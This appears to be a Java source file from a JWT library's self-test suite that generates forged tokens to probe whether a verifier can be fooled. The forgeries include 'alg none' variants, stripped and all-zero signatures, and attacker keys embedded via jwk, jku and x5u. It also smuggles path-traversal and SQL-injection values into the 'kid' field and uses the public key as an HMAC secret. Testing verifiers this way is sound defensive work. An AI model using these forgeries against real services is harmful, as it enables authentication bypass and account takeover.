package dev.signet.attack;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import dev.signet.keys.Keys;
import dev.signet.keys.Keys.Target;
import dev.signet.text.JsonEscapes;
import java.security.GeneralSecurityException;
import java.security.PublicKey;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jspecify.annotations.Nullable;

/** What somebody forges who has no key of ours but those that are public. Not thread-safe. */
final class StrangersForgeries {

    private static final Base64.Encoder LINES = Base64.getMimeEncoder(64, new byte[] {'\n'});

    private final List<Forgery> made = new ArrayList<>();
    private final Target target;
    private final String payload;
    private final String kind; // of the key, where there are several
    private final byte[] signature; // the stranger's

    private StrangersForgeries(Target target, String payload, String kind) {
        this.target = target;
        this.payload = payload;
        this.kind = kind;
        this.signature = TokenText.signature(target.stranger(), header(""), payload);
    }

    /** Those against each of the keys. */
    static List<Forgery> of(List<Target> targets, GoodClaims claims) {
        List<Forgery> all = new ArrayList<>();
        for (Target target : targets) {
            String kind = targets.size() == 1 ? "" : " (for " + target.algorithm() + ")";
            StrangersForgeries some = new StrangersForgeries(target, TokenText.part(claims.json()), kind);
            some.unsigned();
            some.signedByAStranger();
            some.emptySignatures();
            if (target.open() != null) {
                some.publicKeyAsSecret(target.open());
            }
            all.addAll(some.made);
        }
        return all;
    }

    private void unsigned() {
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            add("alg " + none, algorithm('"' + none + '"') + '.' + payload + '.');
        }
        add("alg none with a signature", algorithm("\"none\"") + '.' + payload + '.' + TokenText.part(signature));
        add("alg null", algorithm("null") + '.' + payload + '.');
        add("alg empty", algorithm("\"\"") + '.' + payload + '.');
        add("no alg", TokenText.part("{}") + '.' + payload + '.');
        add("no signature", header("") + '.' + payload + '.');
        add("no third part", header("") + '.' + payload);
    }

    private void signedByAStranger() {
        Keys.Signer stranger = target.stranger();
        String jwk = target.strangerJwk();
        add("signed by another key", header("") + '.' + payload + '.' + TokenText.part(signature));
        add("its own key in jwk", TokenText.signed(stranger, header(",\"jwk\":" + jwk), payload));
        add("its own key in jku", TokenText.signed(stranger, header(address("jku", jwk)), payload));
        add("its own key in x5u", TokenText.signed(stranger, header(address("x5u", jwk)), payload));
        add("kid of no key", TokenText.signed(stranger, header(target.algorithm(), "signet-selftest"), payload));
        add("kid of another file", hmac("HS256", header("HS256", "../../dev/null"), new byte[1]));
        add("kid with a query", hmac("HS256", header("HS256", "x' UNION SELECT 'k"), new byte[] {'k'}));
    }

    /** An address that is its own document: nobody else is asked, should anybody follow it. */
    private static String address(String name, String jwk) {
        String set = Base64.getEncoder().encodeToString(("{\"keys\":[" + jwk + "]}").getBytes(UTF_8));
        return ",\"" + name + "\":\"data:application/json;base64," + set + '"';
    }

    private void emptySignatures() {
        byte[] zeros = new byte[signature.length];
        byte[] one = zeros.clone();
        one[one.length - 1] = 1;
        String text = header("") + '.' + payload + '.';
        add("signature of zeros", text + TokenText.part(zeros));
        add("signature of one", text + TokenText.part(one));
        add("signature of one byte", text + TokenText.part(new byte[1]));
        if (target.algorithm().startsWith("ES")) {
            add("signature of zeros in DER", text + TokenText.part(TokenText.der(zeros)));
        }
    }

    /** Everybody knows it; who lets the header choose the algorithm takes it for a secret (RFC 8725 §2.1). */
    private void publicKeyAsSecret(PublicKey key) {
        byte[] der = key.getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n" + LINES.encodeToString(der) + "\n-----END PUBLIC KEY-----";
        for (String hash : List.of("HS256", "HS512")) {
            String header = header(hash, target.id());
            add(hash + " with the public key in PEM form", hmac(hash, header, (pem + '\n').getBytes(UTF_8)));
            add(hash + " with the public key in PEM form, no line end", hmac(hash, header, pem.getBytes(UTF_8)));
            add(hash + " with the public key in DER form", hmac(hash, header, der));
            add(
                    hash + " with the public key as a JWK",
                    hmac(hash, header, String.valueOf(target.openJwk()).getBytes(UTF_8)));
        }
    }

    private String hmac(String algorithm, String header, byte[] secret) {
        String name = "HmacSHA" + algorithm.substring(2);
        try {
            Mac mac = Mac.getInstance(name);
            mac.init(new SecretKeySpec(secret, name));
            String text = header + '.' + payload;
            return text + '.' + TokenText.part(mac.doFinal(text.getBytes(ISO_8859_1)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("every Java platform has " + name, e);
        }
    }

    private void add(String name, String token) {
        made.add(Forgery.of(name + kind, token));
    }

    private String algorithm(String value) {
        return TokenText.part("{\"alg\":" + value + id(target.id()) + '}');
    }

    /** As a genuine token has it, with more behind. */
    private String header(String more) {
        return TokenText.part("{\"alg\":\"" + target.algorithm() + '"' + id(target.id()) + more + '}');
    }

    private static String header(String algorithm, @Nullable String id) {
        return TokenText.part("{\"alg\":\"" + algorithm + '"' + id(id) + '}');
    }

    private static String id(@Nullable String id) {
        return id == null ? "" : ",\"kid\":" + JsonEscapes.quoted(id);
    }
}
